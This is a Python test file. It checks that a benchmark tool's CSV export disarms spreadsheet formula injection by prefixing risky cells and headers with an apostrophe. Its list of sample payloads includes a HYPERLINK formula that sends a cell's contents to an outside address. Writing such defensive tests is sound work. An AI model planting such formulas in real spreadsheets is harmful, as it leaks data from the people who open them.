"""Texts that a spreadsheet would take for formulas."""

import csv

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bench.tables import make_table, write
from bench.tables.formats.csv_files import plain_text, without_formulas
from tests.tables.made_records import make_record, save

FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://e.org/?"&A1,"click")', "＝1", "'=1", "-", "=-5"]


@pytest.mark.parametrize("title", FORMULAS)
def test_a_title_is_no_formula_in_either_file_and_can_be_had_back(tmp_path, title):
    save(tmp_path, make_record(titles={"method": title, "model": title, "task": title}))
    for path in write(make_table(str(tmp_path), "miniature/glue"), "csv", tmp_path / "out"):
        rows = list(csv.reader(path.open(newline="", encoding="utf-8")))
        assert any(cell == f"'{title}" for row in rows for cell in row), path.name
        assert not any(cell.startswith(("=", "+", "-", "@", "＝")) for row in rows for cell in row)


def test_numbers_stay_numbers():
    frame = pd.DataFrame({"x": [-1.5, 2.0], "text": ["-1", "+2.5e-4"]})
    assert without_formulas(frame).equals(frame)


def test_headers_are_texts_too():
    assert [*without_formulas(pd.DataFrame({"=x": ["@y"], "z": ["a"]})).columns] == ["'=x", "z"]


@given(st.text())
def test_taking_the_apostrophe_away_gives_every_text_back(text):
    written = plain_text(text)
    assert (written[1:] if written.startswith("'") else written) == text
